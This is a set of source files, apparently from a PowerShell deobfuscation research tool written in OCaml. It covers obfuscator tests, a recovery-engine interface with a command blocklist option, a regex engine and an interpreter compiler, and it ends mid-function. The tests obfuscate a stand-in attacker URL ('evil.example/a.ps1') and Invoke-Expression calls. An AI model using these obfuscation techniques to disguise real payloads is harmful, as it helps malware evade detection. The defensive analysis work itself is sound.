      | None -> Alcotest.fail "name lookup failed")
    Obfuscator.Technique.all

let test_l2_string_expr_evaluates_back () =
  let rng = Rng.of_int 5 in
  List.iter
    (fun technique ->
      List.iter
        (fun s ->
          let expr = Obfuscator.L2.string_expr rng technique s in
          let env = Pseval.Env.create () in
          match Pseval.Interp.invoke_piece env expr with
          | Ok (Psvalue.Value.Str out) ->
              check_s (Obfuscator.Technique.name technique ^ " of " ^ s) s out
          | Ok _ -> Alcotest.fail "non-string result"
          | Error e -> Alcotest.fail e)
        [ "write-host hello"; "http://evil.example/a.ps1"; "abcd" ])
    Obfuscator.Technique.l2

let test_ticking_never_breaks_escapes () =
  let rng = Rng.of_int 1 in
  (* commands full of tick-sensitive letters: n t r b f v a 0 *)
  for _ = 1 to 30 do
    let out = Obfuscator.L1.ticking rng "netstat-about Invoke-Expression" in
    check_b "valid" true (Psparse.Parser.is_valid_syntax out)
  done

let test_random_name_consistency () =
  let rng = Rng.of_int 7 in
  let src = "$payload = 'x'; write-host $payload; write-host \"got $payload\"" in
  let out = Obfuscator.L1.random_name rng src in
  check_b "renamed" true (not (Strcase.contains ~needle:"$payload" out));
  (* behaviour unchanged means the rename is consistent across usages *)
  let a = Sandbox.run src and b = Sandbox.run out in
  Alcotest.(check (list string))
    "host output equal"
    (List.map Psvalue.Value.to_string a.Sandbox.output)
    (List.map Psvalue.Value.to_string b.Sandbox.output)

let test_alias_substitution () =
  let rng = Rng.of_int 3 in
  let out = Obfuscator.L1.alias_sub rng "Invoke-Expression '1'; Get-ChildItem" in
  check_b "iex used" true
    (Strcase.contains ~needle:"iex" out
    && not (Strcase.contains ~needle:"invoke-expression" out))

let test_multilayer_depth () =
  let rng = Rng.of_int 11 in
  let layered = Obfuscator.Obfuscate.multilayer rng 4 "write-output 'deep'" in
  check_b "valid" true (Psparse.Parser.is_valid_syntax layered);
  let report = Sandbox.run layered in
  Alcotest.(check (list string))
    "output preserved" [ "deep" ]
    (List.map Psvalue.Value.to_string report.Sandbox.output)

let test_wild_mix_applies_levels () =
  let rng = Rng.of_int 13 in
  let _, techniques = Obfuscator.Obfuscate.wild_mix rng payload in
  check_b "some techniques applied" true (List.length techniques > 0)

let test_piece_positions_valid () =
  List.iter
    (fun technique ->
      let rng = Rng.of_int 21 in
      let piece = Obfuscator.Obfuscate.piece rng technique "write-host hello" in
      check_b
        (Obfuscator.Technique.name technique ^ " piece valid")
        true
        (Psparse.Parser.is_valid_syntax piece))
    Obfuscator.Technique.all

let prop_wild_mix_preserves_behavior =
  QCheck.Test.make ~name:"obfuscator: wild mix preserves network behaviour"
    ~count:60 QCheck.small_nat
    (fun seed ->
      let rng = Rng.of_int (seed * 7919) in
      let _, clean = Corpus.Templates.generate rng in
      let obfuscated, _ = Obfuscator.Obfuscate.wild_mix rng clean in
      Psparse.Parser.is_valid_syntax obfuscated
      && behavior clean = behavior obfuscated)

let prop_single_technique_valid =
  QCheck.Test.make ~name:"obfuscator: every technique yields valid syntax"
    ~count:100
    QCheck.(pair small_nat (int_bound 21))
    (fun (seed, ti) ->
      let rng = Rng.of_int (seed + 17) in
      let technique = List.nth Obfuscator.Technique.all ti in
      let _, clean = Corpus.Templates.generate rng in
      let out = Obfuscator.Obfuscate.apply rng technique clean in
      Psparse.Parser.is_valid_syntax out)

let suite =
  [
    ("each technique valid+consistent", `Quick, test_each_technique_valid_and_consistent);
    ("levels", `Quick, test_levels);
    ("technique names roundtrip", `Quick, test_technique_names_roundtrip);
    ("L2 exprs evaluate back", `Quick, test_l2_string_expr_evaluates_back);
    ("ticking avoids escapes", `Quick, test_ticking_never_breaks_escapes);
    ("random-name consistency", `Quick, test_random_name_consistency);
    ("alias substitution", `Quick, test_alias_substitution);
    ("multilayer depth", `Quick, test_multilayer_depth);
    ("wild mix applies levels", `Quick, test_wild_mix_applies_levels);
    ("piece positions valid", `Quick, test_piece_positions_valid);
    QCheck_alcotest.to_alcotest prop_wild_mix_preserves_behavior;
    QCheck_alcotest.to_alcotest prop_single_technique_valid;
  ]
