(** Recovery based on AST (paper §III-B): one in-order pass that unwraps
    [Invoke-Expression] layers, executes recoverable pieces against the
    traced context, and substitutes known variable values — all as in-place
    extent edits, syntax-checked as a whole. *)

type options = {
  use_tracing : bool;  (** ablation: Algorithm 1 on/off *)
  use_blocklist : bool;  (** ablation: skip pieces naming blocked commands *)
  use_multilayer : bool;  (** ablation: IEX / [-EncodedCommand] unwrapping *)
  use_piece_cache : bool;
      (** ablation: memoize piece invocations on (binding digest, text) —
          obfuscators emit the same decode piece hundreds of times per
          script, and the fixpoint loop re-attempts unrecovered pieces *)
  max_depth : int;  (** multi-layer recursion bound *)
  piece_step_budget : int;  (** interpreter budget per invoked piece *)
  piece_timeout_s : float;
      (** wall-clock budget per invoked piece; each piece runs under a
          {!Pscommon.Guard.protect}, so a crashing or hanging piece degrades
          to "kept obfuscated" instead of aborting the pass *)
  use_dynamic : bool;
      (** provenance-guided dynamic recovery ({!run_dynamic}) of the
          loop/conditional regions Algorithm 1 skips; every edit it makes
          still faces the verify gate individually *)
  dynamic_step_budget : int;
      (** interpreter budget for one whole dynamic-recovery execution *)
}

val default_options : options

type stats = {
  mutable pieces_recovered : int;
  mutable variables_substituted : int;
  mutable layers_unwrapped : int;
  mutable pieces_attempted : int;
  mutable pieces_blocked : int;
  mutable cache_hits : int;
      (** piece invocations answered from the memo cache (counted inside
          [pieces_attempted]) *)
  mutable edits_recorded : int;
      (** extent edits actually applied (post-normalization), summed over
          passes — the size of the journal the semantic gate bisects *)
  mutable dynamic_attempted : int;
      (** loop/conditional regions targeted by dynamic recovery *)
  mutable dynamic_recovered : int;
      (** regions replaced by provenance-mapped literal assignments *)
  mutable dynamic_unverifiable : int;
      (** regions degraded to static-only output: effects observed, values
          unrenderable, provenance missing or poisoned, or execution
          halted *)
}

val new_stats : unit -> stats

(** Content-addressed memo cache for piece invocation, shared across the
    fixpoint passes and unwrapped layers of one engine run — or, when a
    caller passes its own cache to {!Engine.run_guarded}, across many
    runs: batch shares one cache over all files and pool domains, and the
    serve daemon keeps one for the whole process, so repeated decode
    pieces stay warm between files and requests.  All operations are
    mutex-guarded and safe from any domain.

    Keys join the traced-binding digest with the piece text, so
    cross-script sharing is sound; replayed results are deterministic
    (wall-clock-dependent failures are never cached).  Bounding is
    two-generation segmented eviction: when the hot generation fills, it
    becomes the cold one and the previous cold generation is dropped, so
    recently-used entries survive overflow instead of the whole table
    cold-starting.  Generation flips are counted in
    [recover.cache.resets]; occupancy is gauged by
    [recover.cache.entries].

    With [dir], every cacheable result is also written through to a
    persistent tier: one digest-named [*.piece] file per entry, written
    atomically (tmp + rename) and self-verifying (magic, payload digest,
    and the caller's version/options [fingerprint]); any defect — torn
    write, corruption, foreign fingerprint — loads as a miss, never a
    crash.  A later run pointed at the same [dir] with the same
    fingerprint starts warm.

    The cache also memoizes closure-compiled piece programs
    ({!Pseval.Compile}) keyed on text alone; programs are
    environment-independent, never persisted, and shared even when result
    caching is ablated off. *)
module Cache : sig
  type t

  type entry = (Psvalue.Value.t, string) result

  type stats = {
    entries : int;  (** in-memory entries, both generations *)
    hits : int;  (** lookups answered, any tier *)
    lookups : int;
    evictions : int;  (** entries dropped by generation flips *)
    persistent_loads : int;  (** hits answered from the persistent tier *)
  }

  val create : ?cap:int -> ?dir:string -> ?fingerprint:string -> unit -> t
  (** Default capacity 2048 entries (floor 1) split over two generations.
      [dir] enables the persistent tier (the directory must exist);
      [fingerprint] guards its entries against version/options drift —
      use a digest of everything that could change evaluation results. *)

  val find : t -> string -> entry option
  val add : t -> string -> entry -> unit

  val length : t -> int
  (** Current in-memory entry count. *)

  val stats : t -> stats

  val shrink : t -> unit
  (** Memory-pressure shed: drop the cold generation of both the result and
      compiled-program tiers (counted in [recover.cache.shrinks] and the
      eviction stats), keeping the hot working set.  The persistent tier is
      untouched, so shrunk entries reload on demand. *)
end

val is_recoverable : Psast.Ast.t -> bool
(** The paper's recoverable-node test (§III-B1): PipelineAst,
    UnaryExpressionAst, BinaryExpressionAst, ConvertExpressionAst,
    InvokeMemberExpressionAst, SubExpressionAst. *)

val run_pass :
  opts:options ->
  stats:stats ->
  cache:Cache.t ->
  deobfuscate:(depth:int -> string -> string) ->
  depth:int ->
  ?log:Editlog.t ->
  ?pass:int ->
  ?suppress:Editlog.suppression list ->
  ast:Psast.Ast.t ->
  string ->
  (string * Psast.Ast.t) option
(** One recovery pass over an already-parsed script ([ast] must be the
    parse of the text argument).  [deobfuscate] is the full engine, called
    recursively on unwrapped layer payloads.  [None] when the pass changed
    nothing or its edits would break the script; [Some (patched, ast')]
    carries the validated parse of the patched text so the caller never
    re-parses.  [log] journals the applied edits (phase ["recover"], pass
    [pass]) once the patch is validated; [suppress] skips edits the
    semantic gate rolled back, matched by content. *)

val run_dynamic :
  opts:options ->
  stats:stats ->
  ?log:Editlog.t ->
  ?pass:int ->
  ?suppress:Editlog.suppression list ->
  string ->
  (string * Psast.Ast.t) option
(** Provenance-guided dynamic recovery of the regions the static tracer
    skips (PowerPeeler-style; runs after the static fixpoint).  Executes
    the script's top level in the sandbox with a {!Pseval.Provenance}
    recorder installed and replaces each loop/conditional region whose
    execution was pure with literal assignments of the bindings it
    changed, in provenance (last-write) order — but only when every final
    value renders faithfully and its last write is proven to lie inside
    the region.  Regions with effects, unrenderable values, or missing/
    poisoned provenance degrade to static-only ([dynamic_unverifiable]).
    Edits are journaled under kinds [dynamic.loop] / [dynamic.conditional]
    (rule keys [recover.dynamic.*]), so the verify gate bisects and rolls
    them back individually and {!Quarantine} can circuit-break them.
    [None] when dynamic recovery is disabled, found no candidates, or
    changed nothing. *)
