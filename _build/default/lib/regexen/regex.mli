(** A self-contained backtracking regular-expression engine.

    This is the substrate behind two things:
    {ul
    {- the baseline deobfuscators (PSDecode / PowerDrive / PowerDecode are
       defined by regex rule sets in their papers and repositories);}
    {- PowerShell's regex operators ([-match], [-replace], [-split]) in the
       interpreter.}}

    Supported syntax: literals, [.], character classes with ranges and
    negation, escapes ([\d \D \w \W \s \S \n \r \t \xHH] and escaped
    metacharacters), alternation, capturing groups, non-capturing groups
    [(?:...)], greedy and lazy quantifiers ([* + ? {n} {n,} {n,m}]),
    anchors [^ $ \b \B], and backreferences [\1]–[\9]. *)

type t

exception Parse_error of string

val compile : ?case_insensitive:bool -> string -> t
(** @raise Parse_error on malformed patterns.  PowerShell regex operators
    are case-insensitive by default; the baselines' rules mostly are too,
    so that is this engine's default as well. *)

val compile_opt : ?case_insensitive:bool -> string -> (t, string) result

type group = { g_start : int; g_stop : int }
(** Half-open byte range of a capture, or [(-1,-1)] when unset. *)

type match_result = {
  m_start : int;
  m_stop : int;
  groups : group array;  (** index 0 is the whole match *)
}

val matched_text : string -> match_result -> string
val group_text : string -> match_result -> int -> string option

val find : ?start:int -> t -> string -> match_result option
(** Leftmost match at or after [start]. *)

val find_all : t -> string -> match_result list
(** Non-overlapping matches, left to right.  Empty matches advance by one
    character to guarantee termination. *)

val is_match : t -> string -> bool

val replace : t -> template:string -> string -> string
(** Replace every match.  The template supports [$1]–[$9], [$&] (whole
    match), [$$] (literal dollar), and [${n}]. *)

val replace_f : t -> f:(string -> match_result -> string) -> string -> string
(** Replace every match with the result of [f subject m]. *)

val split : t -> string -> string list
(** Split on every match, like .NET [Regex.Split] (no captured separators;
    adjacent matches yield empty fields). *)

val quote : string -> string
(** Escape a literal so it matches itself. *)
