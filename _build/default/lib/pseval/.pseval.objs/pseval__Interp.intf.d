lib/pseval/interp.mli: Env Psast Psvalue
