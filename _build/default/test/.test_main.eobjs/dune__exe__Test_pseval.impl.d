test/test_pseval.ml: Alcotest Encoding Format List Printf Pseval Psvalue String
