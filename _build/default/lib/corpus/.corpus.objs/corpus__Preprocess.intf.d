lib/corpus/preprocess.mli: Pscommon
