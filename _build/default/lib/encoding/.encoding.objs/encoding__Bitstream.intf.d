lib/encoding/bitstream.mli:
