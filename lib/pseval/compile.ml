(** Closure compilation of recoverable pieces.

    The recovery fixpoint re-evaluates the same piece texts pass after pass
    (and, at batch scale, file after file).  {!Interp} walks the AST on
    every evaluation: each node re-dispatches on its constructor, re-lowers
    variable names, re-normalizes type names, and re-renders error texts.
    This module lowers a parsed piece {e once} into a tree of OCaml
    closures — operators pre-resolved, member names and error messages
    pre-rendered, constant subtrees pre-folded into shared immutable
    values — and running the piece just applies the closure tree to an
    environment.

    Fidelity contract: a compiled program is observationally identical to
    the AST walk.  Step accounting ({!Env.tick} per node, {!Env.tick_n}
    replaying folded subtrees), result size checks, short-circuit order,
    error message texts, chaos probe order ([interp.eval]) and the
    [interp.invoke_piece] telemetry span all match {!Interp.run_script} /
    {!Interp.invoke_piece} exactly — the deobfuscator's byte-identity and
    cache-ablation gates depend on it.  Every node shape the compiler does
    not specialize falls back to the interpreter for that subtree, so new
    AST forms degrade to the walker instead of miscompiling. *)

open Psvalue
module A = Psast.Ast
module Strcase = Pscommon.Strcase

type body = (Interp.ctx -> Value.t list, string) result
type program = { src : string; body : body }

let fail msg = raise (Env.Eval_error msg)

(* ---------- constant folding ---------- *)

(* A subtree is fold-eligible when it reads no variables and mutates
   nothing: its value and its step cost are then the same in every
   environment (the interpreter has no clocks or randomness — anything
   effectful raises [Env.Blocked] in the Recovery-mode scratch env and the
   fold is abandoned).  Only immutable scalar results are accepted; arrays
   and objects are mutable and must not be shared across runs. *)
let rec fold_eligible (t : A.t) =
  match t.A.node with
  | A.String_const _ | A.Number_const _ | A.Type_literal _ -> true
  | A.Expandable_string (_, parts) ->
      List.for_all (function A.Part_text _ -> true | _ -> false) parts
  | A.Binary_expr (_, _, a, b) -> fold_eligible a && fold_eligible b
  | A.Unary_expr ((A.Incr | A.Decr), _) | A.Postfix_expr _ -> false
  | A.Unary_expr (_, x) | A.Convert_expr (_, x) -> fold_eligible x
  | A.Member_access (obj, m, _) -> fold_eligible obj && member_eligible m
  | A.Invoke_member (obj, m, args, _) ->
      fold_eligible obj && member_eligible m && List.for_all fold_eligible args
  | A.Index_expr (a, b) -> fold_eligible a && fold_eligible b
  | A.Array_literal elems -> List.for_all fold_eligible elems
  | _ -> false

and member_eligible = function
  | A.Member_name _ -> true
  | A.Member_dynamic e -> fold_eligible e

let immutable_scalar = function
  | Value.Null | Value.Bool _ | Value.Int _ | Value.Float _ | Value.Str _
  | Value.Char _ ->
      true
  | _ -> false

(* Evaluate a fold-eligible subtree in a scratch Recovery env and return
   its value plus the steps the walk consumed, so the compiled form can
   replay the exact step cost via [Env.tick_n].  Any exception — blocked
   effect, over-budget, cast error — abandons the fold; the structural
   compile below reproduces the failure at run time instead. *)
let try_fold src (t : A.t) =
  if not (fold_eligible t) then None
  else
    match
      let env = Env.create ~mode:Env.Recovery () in
      let v = Interp.eval_expression_ast env ~src t in
      (env.Env.steps, v)
    with
    | steps, v when immutable_scalar v -> Some (steps, v)
    | _ -> None
    | exception e -> (
        match e with
        | Stack_overflow | Out_of_memory -> None
        | _ when Interp.describe_exception e <> None -> None
        | Pscommon.Guard.Deadline_exceeded -> None
        | _ -> raise e)

(* ---------- expression compilation ---------- *)

(* [compile_expr] mirrors [Interp.eval_expr]: one step tick, the node
   computation, one result size check.  [compile_expr_spec] returns the
   node computation (the [eval_expr_unchecked] body) when the shape is
   specialized, [None] to defer the whole subtree to the walker. *)
let rec compile_expr src (t : A.t) : Interp.ctx -> Value.t =
  match try_fold src t with
  | Some (steps, v) ->
      fun ctx ->
        Env.tick_n ctx.Interp.env steps;
        Env.check_size ctx.Interp.env v;
        v
  | None -> (
      match compile_expr_spec src t with
      | Some f ->
          fun ctx ->
            Env.tick ctx.Interp.env;
            let v = f ctx in
            Env.check_size ctx.Interp.env v;
            v
      | None -> fun ctx -> Interp.eval_expr ctx t)

and compile_expr_spec src (t : A.t) : (Interp.ctx -> Value.t) option =
  match t.A.node with
  | A.String_const (s, _) ->
      let v = Value.Str s in
      Some (fun _ -> v)
  | A.Number_const (A.Int_lit n) ->
      let v = Value.Int n in
      Some (fun _ -> v)
  | A.Number_const (A.Float_lit f) ->
      let v = Value.Float f in
      Some (fun _ -> v)
  | A.Expandable_string (_, parts) ->
      let cparts =
        List.map
          (fun part ->
            match part with
            | A.Part_text s -> fun _ buf -> Buffer.add_string buf s
            | A.Part_variable (v, _) ->
                let name = v.A.var_name in
                fun ctx buf ->
                  Buffer.add_string buf
                    (Value.to_string (Interp.read_variable ctx name))
            | A.Part_subexpr e ->
                let ce = compile_expr src e in
                fun ctx buf -> Buffer.add_string buf (Value.to_string (ce ctx)))
          parts
      in
      Some
        (fun ctx ->
          let buf = Buffer.create 32 in
          List.iter (fun f -> f ctx buf) cparts;
          Value.Str (Buffer.contents buf))
  | A.Variable_expr v -> (
      let name = v.A.var_name in
      match Strcase.lower name with
      | "args" ->
          Some
            (fun ctx ->
              match Env.get_var ctx.Interp.env "args" with
              | Some v -> v
              | None -> Value.Arr [||])
      | "input" ->
          Some
            (fun ctx ->
              match Env.get_var ctx.Interp.env "input" with
              | Some v -> v
              | None -> Value.Arr [||])
      | "ofs" -> Some (fun _ -> Value.Str " ")
      | _ ->
          let undefined = Printf.sprintf "undefined variable $%s" name in
          Some
            (fun ctx ->
              match Env.get_var ctx.Interp.env name with
              | Some v -> v
              | None -> (
                  match ctx.Interp.env.Env.mode with
                  | Env.Recovery -> fail undefined
                  | Env.Sandbox -> Value.Null)))
  | A.Binary_expr (op, sensitivity, a, b) -> compile_binary src op sensitivity a b
  | A.Unary_expr (op, operand) -> compile_unary src op operand
  | A.Postfix_expr (op, operand) -> (
      let delta = match op with A.Incr -> 1 | _ -> -1 in
      match operand.A.node with
      | A.Variable_expr v ->
          let name = v.A.var_name in
          Some
            (fun ctx ->
              let old =
                try Value.to_int (Interp.read_variable ctx name) with _ -> 0
              in
              Env.set_var ctx.Interp.env name (Value.Int (old + delta));
              Value.Int old)
      | _ -> Some (fun _ -> fail "++/-- requires a variable"))
  | A.Convert_expr (type_name, inner) -> (
      let ci = compile_expr src inner in
      match Casts.normalize_type type_name with
      | "io.compression.deflatestream" | "io.streamreader" ->
          Some (fun ctx -> Interp.construct_object ctx type_name [ ci ctx ])
      | _ -> Some (fun ctx -> Casts.cast type_name (ci ctx)))
  | A.Type_literal name ->
      let v =
        Value.Obj
          { Value.otype = Interp.type_display_name name; okind = Value.Generic }
      in
      Some (fun _ -> v)
  | A.Member_access (obj, member, static) ->
      let cname = compile_member_name src member in
      let whole_txt = lazy (String.trim (A.text src t)) in
      if static then
        match obj.A.node with
        | A.Type_literal type_name ->
            Some
              (fun ctx ->
                let name = cname ctx in
                match Statics.get_static type_name name with
                | Some v -> v
                | None ->
                    fail
                      (Printf.sprintf "unknown static member [%s]::%s" type_name
                         name))
        | _ ->
            Some
              (fun ctx ->
                ignore (cname ctx);
                fail "static member access requires a type literal")
      else
        let cobj = compile_expr src obj in
        Some
          (fun ctx ->
            let name = cname ctx in
            let v = cobj ctx in
            match Members.get_property v name with
            | Some result -> result
            | None -> (
                match Strcase.lower name with
                | "length" | "count" -> Value.Int 1
                | _ -> (
                    match ctx.Interp.env.Env.mode with
                    | Env.Recovery ->
                        fail
                          (Printf.sprintf "unknown property '%s' on %s (%s)"
                             name (Value.type_name v) (Lazy.force whole_txt))
                    | Env.Sandbox -> Value.Null)))
  | A.Invoke_member (obj, member, args, static) ->
      let cname = compile_member_name src member in
      let cargs = List.map (compile_expr src) args in
      let whole_txt = lazy (String.trim (A.text src t)) in
      if static then
        match obj.A.node with
        | A.Type_literal type_name ->
            Some
              (fun ctx ->
                let name = cname ctx in
                let arg_values = List.map (fun f -> f ctx) cargs in
                match
                  Statics.invoke_static ctx.Interp.env type_name name arg_values
                with
                | Some v -> v
                | None ->
                    fail
                      (Printf.sprintf "unknown static method [%s]::%s" type_name
                         name))
        | _ ->
            Some
              (fun ctx ->
                ignore (cname ctx);
                ignore (List.map (fun f -> f ctx) cargs);
                fail "static method call requires a type literal")
      else
        let cobj = compile_expr src obj in
        Some
          (fun ctx ->
            let name = cname ctx in
            let arg_values = List.map (fun f -> f ctx) cargs in
            let v = cobj ctx in
            match (v, Strcase.lower name) with
            | Value.Script_block sb, ("invoke" | "invokereturnasis") ->
                Value.of_list
                  (Interp.invoke_script_block ctx sb arg_values ~input:[])
            | _ -> (
                match Members.invoke_method ctx.Interp.env v name arg_values with
                | Some result -> result
                | None -> (
                    match ctx.Interp.env.Env.mode with
                    | Env.Recovery ->
                        fail
                          (Printf.sprintf "unknown method '%s' on %s (%s)" name
                             (Value.type_name v) (Lazy.force whole_txt))
                    | Env.Sandbox -> Value.Null)))
  | A.Index_expr (obj, idx) ->
      let cobj = compile_expr src obj and cidx = compile_expr src idx in
      Some
        (fun ctx ->
          let container = cobj ctx in
          let index = cidx ctx in
          Ops.index_value container index)
  | A.Array_literal elems ->
      let cs = List.map (compile_expr src) elems in
      Some (fun ctx -> Value.Arr (Array.of_list (List.map (fun f -> f ctx) cs)))
  | A.Array_expr stmts ->
      let cs = compile_stmts src stmts in
      Some (fun ctx -> Value.Arr (Array.of_list (cs ctx)))
  | A.Hash_literal pairs ->
      let cs =
        List.map
          (fun (k, v) -> (compile_expr src k, compile_stmt src v))
          pairs
      in
      Some
        (fun ctx ->
          Value.Hash
            (List.map
               (fun (ck, cv) ->
                 let key = ck ctx in
                 let value = Value.of_list (cv ctx) in
                 (key, value))
               cs))
  | A.Sub_expr stmts ->
      let cs = compile_stmts src stmts in
      Some (fun ctx -> Value.of_list (cs ctx))
  | A.Paren_expr stmt -> (
      match stmt.A.node with
      | A.Assignment (_, lhs, _) ->
          let cstmt = compile_stmt src stmt in
          let clhs = compile_expr src lhs in
          Some
            (fun ctx ->
              ignore (cstmt ctx);
              clhs ctx)
      | _ ->
          let cstmt = compile_stmt src stmt in
          Some (fun ctx -> Value.of_list (cstmt ctx)))
  | A.Script_block_expr sb ->
      let v =
        Value.Script_block
          { Value.sb_ast = sb; sb_text = Interp.strip_braces (A.text src t) }
      in
      Some (fun _ -> v)
  | A.Pipeline _ | A.Command _ | A.Command_expression _ ->
      let cstmt = compile_stmt src t in
      Some (fun ctx -> Value.of_list (cstmt ctx))
  | _ ->
      let msg =
        Printf.sprintf "cannot evaluate %s as an expression" (A.kind_name t)
      in
      Some (fun _ -> fail msg)

and compile_member_name src member : Interp.ctx -> string =
  match member with
  | A.Member_name n -> fun _ -> n
  | A.Member_dynamic e ->
      let ce = compile_expr src e in
      fun ctx -> Value.to_string (ce ctx)

and compile_binary src op sensitivity a b =
  match op with
  | A.And_op ->
      let ca = compile_expr src a and cb = compile_expr src b in
      Some
        (fun ctx ->
          let va = ca ctx in
          if not (Value.to_bool va) then Value.Bool false
          else Ops.logical A.And_op va (cb ctx))
  | A.Or_op ->
      let ca = compile_expr src a and cb = compile_expr src b in
      Some
        (fun ctx ->
          let va = ca ctx in
          if Value.to_bool va then Value.Bool true
          else Ops.logical A.Or_op va (cb ctx))
  | A.Isnot ->
      (* -isnot re-evaluates both operands through the -is path; the walker
         already implements that double evaluation exactly *)
      None
  | _ ->
      let ca = compile_expr src a and cb = compile_expr src b in
      let apply : Interp.ctx -> Value.t -> Value.t -> Value.t =
        match op with
        | A.Add -> fun _ va vb -> Ops.add va vb
        | A.Sub -> fun _ va vb -> Ops.subtract va vb
        | A.Mul -> fun _ va vb -> Ops.multiply va vb
        | A.Div -> fun _ va vb -> Ops.divide va vb
        | A.Mod -> fun _ va vb -> Ops.modulo va vb
        | A.Format ->
            fun _ va vb ->
              Value.Str (Format_op.format (Value.to_string va) (Value.to_list vb))
        | A.Range ->
            fun ctx va vb ->
              Ops.range ctx.Interp.env.Env.limits.Env.max_collection va vb
        | A.Eq | A.Ne | A.Gt | A.Ge | A.Lt | A.Le | A.Like | A.Notlike
        | A.Match | A.Notmatch ->
            fun _ va vb -> Ops.comparison op sensitivity va vb
        | A.Replace -> fun _ va vb -> Ops.replace_op sensitivity va vb
        | A.Split -> fun _ va vb -> Ops.split_op sensitivity va vb
        | A.Join -> fun _ va vb -> Ops.join_op va vb
        | A.Contains ->
            let case_sensitive = sensitivity = Some true in
            fun _ va vb -> Ops.contains_op ~case_sensitive ~negate:false va vb
        | A.Notcontains ->
            let case_sensitive = sensitivity = Some true in
            fun _ va vb -> Ops.contains_op ~case_sensitive ~negate:true va vb
        | A.In_op ->
            let case_sensitive = sensitivity = Some true in
            fun _ va vb -> Ops.in_op ~case_sensitive ~negate:false va vb
        | A.Notin ->
            let case_sensitive = sensitivity = Some true in
            fun _ va vb -> Ops.in_op ~case_sensitive ~negate:true va vb
        | A.Is_op -> (
            fun _ va vb ->
              match vb with
              | Value.Obj { Value.otype; _ } ->
                  Value.Bool (Ops.type_matches otype va)
              | v -> Value.Bool (Ops.type_matches (Value.to_string v) va))
        | A.As_op -> (
            fun _ va vb ->
              match vb with
              | Value.Obj { Value.otype; _ } -> (
                  try Casts.cast otype va with Casts.Cast_error _ -> Value.Null)
              | v -> (
                  try Casts.cast (Value.to_string v) va
                  with Casts.Cast_error _ -> Value.Null))
        | A.Band | A.Bor | A.Bxor | A.Shl | A.Shr ->
            fun _ va vb -> Ops.bitwise op va vb
        | A.And_op | A.Or_op | A.Xor_op | A.Isnot ->
            fun _ va vb -> Ops.logical op va vb
      in
      Some
        (fun ctx ->
          let va = ca ctx in
          let vb = cb ctx in
          apply ctx va vb)

and compile_unary src op operand =
  match op with
  | A.Incr | A.Decr -> (
      let delta = match op with A.Incr -> 1 | _ -> -1 in
      match operand.A.node with
      | A.Variable_expr v ->
          let name = v.A.var_name in
          Some
            (fun ctx ->
              let old =
                try Value.to_int (Interp.read_variable ctx name) with _ -> 0
              in
              Env.set_var ctx.Interp.env name (Value.Int (old + delta));
              Value.Int (old + delta))
      | _ -> Some (fun _ -> fail "++/-- requires a variable"))
  | _ ->
      let co = compile_expr src operand in
      let apply =
        match op with
        | A.Not -> fun v -> Value.Bool (not (Value.to_bool v))
        | A.Negate -> (
            function
            | Value.Int n -> Value.Int (-n)
            | Value.Float f -> Value.Float (-.f)
            | v -> Value.Int (-(Value.to_int v)))
        | A.Unary_plus -> (
            function
            | Value.Int n -> Value.Int n
            | Value.Float f -> Value.Float f
            | v -> Value.Int (Value.to_int v))
        | A.Bnot -> fun v -> Value.Int (lnot (Value.to_int v))
        | A.Ujoin -> Ops.unary_join
        | A.Usplit -> Ops.unary_split
        | A.Incr | A.Decr -> fun _ -> fail "++/-- requires a variable"
      in
      Some (fun ctx -> apply (co ctx))

(* ---------- statement compilation ---------- *)

and compile_stmts src stmts : Interp.ctx -> Value.t list =
  let cs = List.map (compile_stmt src) stmts in
  fun ctx -> List.concat_map (fun f -> f ctx) cs

and compile_stmt src (t : A.t) : Interp.ctx -> Value.t list =
  match compile_stmt_spec src t with
  | Some f ->
      fun ctx ->
        Env.tick ctx.Interp.env;
        f ctx
  | None -> fun ctx -> Interp.eval_statement ctx t

and bind_param_defaults env names =
  List.iter
    (fun n ->
      match Env.get_var env n with
      | Some _ -> ()
      | None -> Env.set_var env n Value.Null)
    names

and compile_stmt_spec src (t : A.t) : (Interp.ctx -> Value.t list) option =
  match t.A.node with
  | A.Script_block sb ->
      let params = sb.A.sb_params in
      let cs = compile_stmts src sb.A.sb_statements in
      Some
        (fun ctx ->
          bind_param_defaults ctx.Interp.env params;
          cs ctx)
  | A.Named_block (_, body) ->
      let cbody = compile_stmt src body in
      Some cbody
  | A.Statement_block stmts ->
      let cs = compile_stmts src stmts in
      Some cs
  | A.Pipeline
      [ { A.node =
            A.Command_expression
              { A.node =
                  A.Postfix_expr ((A.Incr | A.Decr), _)
                | A.Unary_expr ((A.Incr | A.Decr), _);
                _ };
          _ } as elem ] ->
      let ce =
        match elem.A.node with
        | A.Command_expression e -> compile_expr src e
        | _ -> assert false
      in
      Some
        (fun ctx ->
          ignore (Value.to_list (ce ctx));
          [])
  | A.Pipeline elems
    when List.for_all
           (fun e -> match e.A.node with A.Command _ -> false | _ -> true)
           elems ->
      let stages =
        List.map
          (fun e ->
            match e.A.node with
            | A.Command_expression inner -> compile_expr src inner
            | _ -> compile_expr src e)
          elems
      in
      Some
        (fun ctx ->
          let rec run input = function
            | [] -> input
            | f :: rest -> run (Value.to_list (f ctx)) rest
          in
          run [] stages)
  | A.Assignment (op, lhs, rhs) -> (
      let crhs = compile_stmt src rhs in
      let combined =
        match op with
        | A.Assign -> fun _ rhs_value -> rhs_value
        | A.Plus_assign -> Ops.add
        | A.Minus_assign -> Ops.subtract
        | A.Times_assign -> Ops.multiply
        | A.Div_assign -> Ops.divide
        | A.Mod_assign -> Ops.modulo
      in
      match lhs.A.node with
      | A.Variable_expr v ->
          let name = v.A.var_name in
          Some
            (fun ctx ->
              let rhs_value = Value.of_list (crhs ctx) in
              let current =
                if op = A.Assign then Value.Null
                else
                  match Env.get_var ctx.Interp.env name with
                  | Some x -> x
                  | None -> Value.Null
              in
              Env.set_var ctx.Interp.env name (combined current rhs_value);
              [])
      | A.Convert_expr (type_name, { A.node = A.Variable_expr v; _ }) ->
          let name = v.A.var_name in
          Some
            (fun ctx ->
              let rhs_value = Value.of_list (crhs ctx) in
              Env.set_var ctx.Interp.env name (Casts.cast type_name rhs_value);
              [])
      | _ -> None)
  | A.If_stmt (clauses, else_branch) ->
      let cclauses =
        List.map
          (fun (cond, body) -> (compile_stmt src cond, compile_stmt src body))
          clauses
      in
      let celse = Option.map (compile_stmt src) else_branch in
      Some
        (fun ctx ->
          let rec try_clauses = function
            | [] -> ( match celse with Some b -> b ctx | None -> [])
            | (ccond, cbody) :: rest ->
                if Value.to_bool (Value.of_list (ccond ctx)) then cbody ctx
                else try_clauses rest
          in
          try_clauses cclauses)
  | A.While_stmt (cond, body) ->
